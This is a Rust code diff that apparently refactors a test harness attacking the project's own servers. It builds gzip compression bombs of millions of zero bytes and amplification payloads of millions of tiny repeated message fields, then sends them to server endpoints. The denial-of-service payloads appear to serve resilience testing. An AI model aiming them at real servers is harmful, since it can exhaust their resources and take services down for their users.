@@ -23,45 +23,64 @@ const BOMBS: usize = 10;
 pub fn attacks() -> Vec<Attack> {
     vec![
         Attack {
-            name: "compression_bomb",
-            server: Victim::Tutorials,
-            cost: Cost::Bomb,
-            ends: &["open"],
-            round: |attacker| Box::pin(compression_bomb(attacker)),
+            prepare: make_zeros,
+            ..Attack::new("compression_bomb", Cost::Bomb, &["open"], |attacker| {
+                Box::pin(compression_bomb(attacker))
+            })
         },
         Attack {
-            name: "amplification_by_tiny_fields",
             server: Victim::Interop,
-            cost: Cost::Bomb,
-            ends: &["open"],
-            round: |attacker| Box::pin(tiny_fields(attacker)),
+            prepare: make_lists,
+            ..Attack::new(
+                "amplification_by_tiny_fields",
+                Cost::Bomb,
+                &["open"],
+                |attacker| Box::pin(tiny_fields(attacker)),
+            )
         },
     ]
 }
 
-/// Zeros: as many as a message may have and the reply then has too, or many more.
+/// A message of as many zeros as it may have, which the reply has then too.
+static ZEROS: LazyLock<Vec<u8>> = LazyLock::new(|| {
+    // Field 1, a text of 4,000,000 bytes.
+    bomb(&[&[0x0a, 0x80, 0x92, 0xf4, 0x01][..], &vec![0; 4_000_000]].concat())
+});
+/// Many more of them.
+static TOO_MANY_ZEROS: LazyLock<Vec<u8>> =
+    LazyLock::new(|| bomb(&vec![0; usize::try_from(32 * MIB).unwrap()]));
+/// Field 2 is a list of messages, of which each is empty here: two bytes that become a struct.
+static EMPTY_MESSAGES: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x12, 0].repeat(TIMES)));
+/// Field 1 is a number.
+static NUMBERS: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x08, 0].repeat(TIMES)));
+/// A server that was not optimised takes seconds for what an optimised one does at once.
+const TIMES: usize = if cfg!(debug_assertions) {
+    200_000
+} else {
+    2_000_000
+};
+
+fn make_zeros() {
+    LazyLock::force(&ZEROS);
+    LazyLock::force(&TOO_MANY_ZEROS);
+}
+
+fn make_lists() {
+    LazyLock::force(&EMPTY_MESSAGES);
+    LazyLock::force(&NUMBERS);
+}
+
 async fn compression_bomb(attacker: &mut Attacker) -> Result<(), Over> {
-    static ALLOWED: LazyLock<Vec<u8>> = LazyLock::new(|| {
-        // Field 1, a text of 4,000,000 bytes.
-        bomb(&[&[0x0a, 0x80, 0x92, 0xf4, 0x01][..], &vec![0; 4_000_000]].concat())
-    });
-    static LARGER: LazyLock<Vec<u8>> =
-        LazyLock::new(|| bomb(&vec![0; usize::try_from(64 * MIB).unwrap()]));
     let bomb = match attacker.number % 2 {
-        0 => &*ALLOWED,
-        _ => &*LARGER,
+        0 => &*ZEROS,
+        _ => &*TOO_MANY_ZEROS,
     };
     throw(attacker, SAY_HELLO, bomb).await
 }
 
-/// Two bytes that become an element of a list, or a number, two million times.
 async fn tiny_fields(attacker: &mut Attacker) -> Result<(), Over> {
-    const TIMES: usize = 2_000_000;
-    // Field 2 is a list of messages, of which each is empty here; field 1 a number.
-    static MESSAGES: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x12, 0].repeat(TIMES)));
-    static NUMBERS: LazyLock<Vec<u8>> = LazyLock::new(|| bomb(&[0x08, 0].repeat(TIMES)));
     let bomb = match attacker.number % 2 {
-        0 => &*MESSAGES,
+        0 => &*EMPTY_MESSAGES,
         _ => &*NUMBERS,
     };
     throw(attacker, STREAMING_OUTPUT, bomb).await
@@ -88,7 +107,7 @@ async fn throw(attacker: &mut Attacker, path: &str, bomb: &[u8]) -> Result<(), O
 
 /// A message, compressed, prefix and all.
 fn bomb(message: &[u8]) -> Vec<u8> {
-    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
+    let mut encoder = GzEncoder::new(Vec::new(), Compression::fast());
     encoder.write_all(message).unwrap();
     let body = encoder.finish().unwrap();
     let length = u32::try_from(body.len()).unwrap().to_be_bytes();
